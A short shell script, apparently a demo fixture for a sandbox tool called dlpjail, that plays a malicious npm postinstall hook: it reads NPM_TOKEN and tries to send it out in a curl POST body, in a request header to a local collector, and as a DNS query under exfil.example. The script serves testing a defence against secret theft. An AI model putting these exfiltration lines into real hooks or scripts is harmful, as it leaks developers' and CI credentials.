#!/bin/sh
# leak-token.sh - a stand-in for a malicious postinstall hook.
#
# It reads a token from the environment (where CI systems and developers keep
# them) and tries to smuggle it out three ways: in an HTTP POST body to a host
# the policy allows, in a request header, and as a DNS name. Run it under
# dlpjail (see `make demo` or the README) and each attempt is refused and
# explained; run it bare and the local "collector" receives the token.
PORT=${1:?usage: leak-token.sh PORT}
TOKEN=${NPM_TOKEN:?NPM_TOKEN is not set}

echo "leak-token: POSTing the token to the allowed collector..."
curl -s -S -m 5 -d "stolen=$TOKEN" "http://127.0.0.1:$PORT/collect" && echo " <- leaked in a POST body"
echo "leak-token: sending it in a header..."
curl -s -S -m 5 -H "X-Debug: $TOKEN" "http://127.0.0.1:$PORT/ping" && echo " <- leaked in a header"
echo "leak-token: resolving it as a DNS name..."
label=$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
python3 - "$label.exfil.example" <<'PY'
import socket, sys
try:
    socket.getaddrinfo(sys.argv[1], 443)
    print(" <- leaked as a DNS query (and answered)")
except socket.gaierror as e:
    if e.errno == socket.EAI_FAIL:
        print("leak-token: DNS lookup refused")
    else:
        print(" <- leaked as a DNS query (the query left; the answer does not matter)")
PY
exit 0
